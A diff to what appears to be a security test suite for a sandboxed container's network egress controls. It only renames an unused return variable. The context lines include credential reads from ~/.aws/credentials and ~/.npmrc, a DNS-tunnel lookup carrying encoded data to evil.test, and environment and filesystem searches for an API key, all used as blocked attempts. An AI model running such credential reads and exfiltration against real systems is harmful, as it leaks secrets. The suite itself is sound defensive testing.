@@ -43,7 +43,7 @@ def test_userinfo_spelling_goes_to_the_real_host(cli: Cli, bottle: str) -> None:
 
 
 def test_raw_absolute_uri_with_a_lying_host_header(cli: Cli, bottle: str) -> None:
-    rc, out = py(
+    _rc, out = py(
         cli,
         bottle,
         """
@@ -57,7 +57,7 @@ print(s.recv(200).split(b"\\r\\n")[0].decode())
 
 
 def test_tunnel_to_an_allowed_host_carrying_another_hosts_request(cli: Cli, bottle: str) -> None:
-    rc, out = py(
+    _rc, out = py(
         cli,
         bottle,
         """
@@ -74,7 +74,7 @@ print("reply:", s.recv(200))
 
 
 def test_sni_naming_another_host_is_cut(cli: Cli, bottle: str) -> None:
-    rc, out = py(
+    _rc, out = py(
         cli,
         bottle,
         """
@@ -105,7 +105,7 @@ def test_allowed_name_resolving_to_a_private_address(cli: Cli, bottle: str) -> N
 # -- DNS -----------------------------------------------------------------------------------------
 def test_dns_outside_names_and_tunnel_shaped_names(cli: Cli, bottle: str) -> None:
     label = base64.b32encode(b"secret data going out").decode().rstrip("=").lower()
-    rc, out = cli.sh(bottle, f"getent hosts example.com; echo rc=$?; getent hosts {label}.t.evil.test; echo rc=$?")
+    _rc, out = cli.sh(bottle, f"getent hosts example.com; echo rc=$?; getent hosts {label}.t.evil.test; echo rc=$?")
     assert out.count("rc=2") == 2, out  # no answer for either
     dns = lines_for(cli, bottle, kind="dns")
     assert any(d["host"] == "example.com" and d["reason"] == "nxdomain" for d in dns)
@@ -114,7 +114,7 @@ def test_dns_outside_names_and_tunnel_shaped_names(cli: Cli, bottle: str) -> Non
 
 
 def test_direct_dns_to_an_outside_resolver_has_no_route(cli: Cli, bottle: str, internet: Internet) -> None:
-    rc, out = py(
+    _rc, out = py(
         cli,
         bottle,
         f"""
@@ -134,7 +134,7 @@ except OSError as exc:
 
 # -- other protocols and addresses ----------------------------------------------------------------
 def test_raw_sockets_and_udp_are_refused(cli: Cli, bottle: str, internet: Internet) -> None:
-    rc, out = py(
+    _rc, out = py(
         cli,
         bottle,
         f"""
@@ -192,7 +192,7 @@ def test_the_docker_hosts_gateway_addresses_are_unreachable(cli: Cli, bottle: st
 
 # -- exfiltration ----------------------------------------------------------------------------------
 def test_exfiltration_in_url_header_body_and_host_name(cli: Cli, bottle: str) -> None:
-    rc, creds = cli.sh(bottle, "cat ~/.aws/credentials ~/.npmrc")
+    _rc, creds = cli.sh(bottle, "cat ~/.aws/credentials ~/.npmrc")
     key_id = next(ln.split("=", 1)[1].strip() for ln in creds.splitlines() if "aws_access_key_id" in ln)
     npm = creds.split("_authToken=", 1)[1].split()[0]
     attempts = {
@@ -217,7 +217,7 @@ def test_exfiltration_in_url_header_body_and_host_name(cli: Cli, bottle: str) ->
 
 
 def test_the_real_key_is_nowhere_in_the_bottle(cli: Cli, bottle: str) -> None:
-    rc, out = cli.sh(
+    _rc, out = cli.sh(
         bottle,
         "echo $ANTHROPIC_API_KEY; tr '\\0' '\\n' < /proc/1/environ | grep -c placeholder; "
         f"grep -rIs --exclude-dir=proc --exclude-dir=sys -l '{TEST_KEY[:24]}' / ; echo done",
